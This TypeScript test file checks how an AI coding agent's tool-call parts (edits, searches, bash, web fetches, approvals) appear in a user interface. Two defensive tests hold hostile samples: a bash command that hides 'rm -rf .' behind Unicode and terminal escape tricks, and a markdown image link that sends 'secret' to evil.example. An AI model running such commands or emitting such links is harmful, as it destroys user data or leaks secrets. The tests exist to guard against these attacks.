import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isToolPart, viewPart } from "./view-part.ts";

const part = (fields: object) => ({ type: "tool-edit_file", toolCallId: "1", ...fields });
const input = { path: "/app/a.ts", old_string: "a\n", new_string: "b\n" };

describe("states of AI SDK messages", () => {
  test("half an input shows what is there so far", () => {
    const view = viewPart(part({ state: "input-streaming", input: { path: "/app/a.ts", old_str: 1 } }), {
      cwd: "/app",
    });
    expect(view).toMatchObject({ state: "preparing", title: "Edit file", subject: "a.ts", outcome: "" });
    expect(viewPart(part({ state: "input-streaming" })).blocks).toEqual([]);
  });

  test("a whole input shows what would be done", () => {
    const { state, blocks } = viewPart(part({ state: "input-available", input }));
    expect(state).toBe("waiting");
    expect(blocks).toMatchObject([{ kind: "diff", added: 1, removed: 1, path: "/app/a.ts" }]);
  });

  test("an approval that is asked for, given, refused", () => {
    const asked = viewPart(part({ state: "approval-requested", input, approval: { id: "x" } }));
    expect(asked).toMatchObject({ state: "asking", approval: { id: "x" } });
    const yes = viewPart(part({ state: "approval-responded", input, approval: { id: "x", approved: true } }));
    expect(yes.state).toBe("running");
    const no = viewPart(part({ state: "approval-responded", input, approval: { approved: false, reason: "not now" } }));
    expect(no).toMatchObject({ state: "denied", error: { message: "not now" } });
    expect(viewPart(part({ state: "output-denied", input })).state).toBe("denied");
  });

  test("progress, an output, an error of ours, an error of the SDK's", () => {
    const output = { path: "/app/a.ts", diff: "1   x\n2 - a\n2 + b" };
    const progress = { progress: { message: "half", progress: 1, total: 2 } };
    const running = viewPart(part({ state: "output-available", preliminary: true, input, output: progress }));
    expect(running).toMatchObject({ state: "running", progress: { message: "half", done: 0.5 } });
    expect(viewPart(part({ state: "output-available", input, output }))).toMatchObject({
      state: "success",
      outcome: "+1 −1",
      blocks: [{ rows: [{ kind: "same", before: 1, after: 1 }, { before: 2 }, { after: 2 }] }],
    });
    const failed = { error: { code: "ambiguous", message: "Twice.", hint: "Add a line." } };
    expect(viewPart(part({ state: "output-available", input, output: failed }))).toMatchObject({
      state: "error",
      error: failed.error,
    });
    const aborted = { success: false, error: "Stopped.", code: "aborted" };
    expect(viewPart(part({ state: "output-available", input, output: aborted })).state).toBe("cancelled");
    expect(viewPart(part({ state: "output-error", errorText: "boom" })).error?.message).toBe("boom");
  });

  test("diffs with empty lines and with several files", () => {
    const diff = "a.ts\n1   x\n2\n3 +\n3 -\n… \nb.ts\n10   y\n11 + z";
    const { blocks } = viewPart(part({ state: "output-available", input, output: { diff } }));
    expect(blocks).toMatchObject([
      {
        path: "a.ts",
        rows: [
          { kind: "same", before: 1, after: 1 },
          { kind: "same", before: 2, after: 2, text: "" },
          { kind: "added", after: 3, text: "" },
          { kind: "removed", before: 3, text: "" },
          { kind: "gap" },
        ],
      },
      { path: "b.ts", rows: [{ text: "y" }, { text: "z" }], added: 1 },
    ]);
  });

  test.each([
    { next_offset: 2164 },
    { left_out: { max_per_file: 1 } },
    // Of a session that was saved earlier.
    { truncated: true },
  ])("a search that stopped at a limit says so: %j", (more) => {
    const files = [{ path: "a", matches: 2164, rows: [{ line: 1, text: "x", match: true }] }];
    const output = { files, ...more };
    const view = viewPart({ type: "tool-grep_files", toolCallId: "1", state: "output-available", output });
    expect(view.outcome).toBe("2,164+ matches");
    expect(view.blocks[1]).toMatchObject({ kind: "text" });
  });

  test("dynamic parts and every spelling of a name", () => {
    const dynamic = {
      type: "dynamic-tool",
      toolName: "Read",
      toolCallId: "1",
      state: "input-available",
      input: { file_path: "a" },
    };
    expect(viewPart(dynamic)).toMatchObject({ title: "Read file", subject: "a" });
    expect(viewPart({ ...dynamic, toolName: "grepFiles", input: { pattern: "x", path: "src" } }).subject).toBe(
      "x in src",
    );
    expect(viewPart({ ...dynamic, toolName: "mcp__github__create_issue" }).title).toBe("create issue · github");
    expect(viewPart({ ...dynamic, toolName: "getTrainTimes" }).title).toBe("Get train times");
  });

  test("what is a tool's part and what is not", () => {
    expect([part({}), { type: "text" }, null, 1, { type: "tool-x" }].map(isToolPart)).toEqual([
      true,
      false,
      false,
      false,
      false,
    ]);
  });
});

test("characters that hide something are visible in what a person decides by", () => {
  const view = viewPart({
    type: "tool-bash",
    toolCallId: "1",
    state: "approval-requested",
    input: { command: "echo \u202egnp.exe\u001b[2J\nrm -rf ." },
    approval: { id: "a", prompt: "run\u200b\u0007" },
  });
  expect(view.subject).toBe("echo ⟨202E⟩gnp.exe␛[2J ⏎ rm -rf .");
  expect(view.approval?.prompt).toBe("run⟨200B⟩␇");
});

test("of a page the answer shows, else its text, and no address of a picture becomes one", () => {
  const shown = (output: object) =>
    viewPart({ type: "tool-web_fetch", toolCallId: "1", state: "output-available", input: {}, output }).blocks;
  const from = { final_url: "https://a.example/" };
  const text = "![x](https://evil.example/?d=secret)";
  expect(shown({ ...from, text })).toEqual([{ kind: "markdown", text, source: from.final_url }]);
  expect(shown({ ...from, text: "", answer: { text: "98 cm.", passages: [] } })).toMatchObject([{ text: "98 cm." }]);
  expect(shown({ ...from, text: "", image: { media_type: "image/png", base64: "AAAA" } })).toMatchObject([
    { kind: "image", source: "data:image/png;base64,AAAA" },
  ]);
  expect(
    shown({ ...from, text: "", image: { media_type: "image/png", base64: "https://evil.example/" } }),
  ).toMatchObject([{ kind: "markdown" }]);
});

describe("broken parts", () => {
  const tools = [
    "read_file",
    "edit_file",
    "multi_edit",
    "apply_patch",
    "grep_files",
    "list_directory",
    "bash",
    "todo_write",
  ];
  const others = ["web_search", "web_fetch", "scrape_page", "tool_search", "task_list", "mcp__a__b", "unheard_of", ""];
  const states = ["input-streaming", "input-available", "approval-requested", "approval-responded", "output-available"];
  const names = [
    "path",
    "edits",
    "todos",
    "files",
    "rows",
    "content",
    "diff",
    "results",
    "tools",
    "error",
    "image",
    "url",
  ];
  const value = fc.letrec((tie) => ({
    any: fc.oneof(
      { depthSize: "small" },
      fc.anything(),
      fc.array(tie("any"), { maxLength: 3 }),
      fc.dictionary(fc.constantFrom(...names), tie("any"), { maxKeys: 5 }),
    ),
  })).any;

  test("every state, tool and value gives a view that can be read whole", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...tools, ...others),
        fc.constantFrom(...states, "output-error", "output-denied", "a state of next year", undefined),
        value,
        value,
        fc.option(value),
        fc.boolean(),
        (tool, state, given, output, approval, preliminary) => {
          const view = viewPart({
            type: `tool-${tool}`,
            toolCallId: "1",
            state,
            input: given,
            output,
            approval,
            preliminary,
          });
          expect(view.title).not.toBe("");
          for (const text of [view.subject, view.outcome, view.tool]) expect(text).toBeTypeOf("string");
          for (const block of view.blocks) expect(block.kind).toBeTypeOf("string");
        },
      ),
      { numRuns: process.env.HOLDALL_STRESS ? 1_000 : 200 },
    );
  });

  test("no part at all, and one whose properties throw", () => {
    const trap = new Proxy(
      {},
      {
        get: () => {
          throw new Error("trap");
        },
        ownKeys: () => {
          throw new Error("trap");
        },
      },
    );
    for (const odd of [
      undefined,
      null,
      7,
      "text",
      [],
      trap,
      part({ state: "output-available", output: trap, input: trap }),
    ]) {
      expect(viewPart(odd).title).toBeTypeOf("string");
    }
  });
});

test("matches that come one by one, as in the camel dialect, are shown by file", () => {
  const matches = [
    { file: "/app/a.ts", line: 2, content: "one" },
    { file: "/app/a.ts", line: 5, content: "two" },
    { file: "/app/b.ts", line: 1, content: "three" },
  ];
  const output = { success: true, path: "/app", matches, totalMatches: 3, truncated: false };
  const view = viewPart({ type: "tool-grep", toolCallId: "1", state: "output-available", input: {}, output });
  expect(view).toMatchObject({ title: "Search in files", outcome: "3 matches" });
  expect(view.blocks).toMatchObject([
    {
      kind: "matches",
      files: [{ path: "/app/a.ts", rows: [{ line: 2, text: "one" }, { line: 5 }] }, { path: "/app/b.ts" }],
    },
  ]);
});
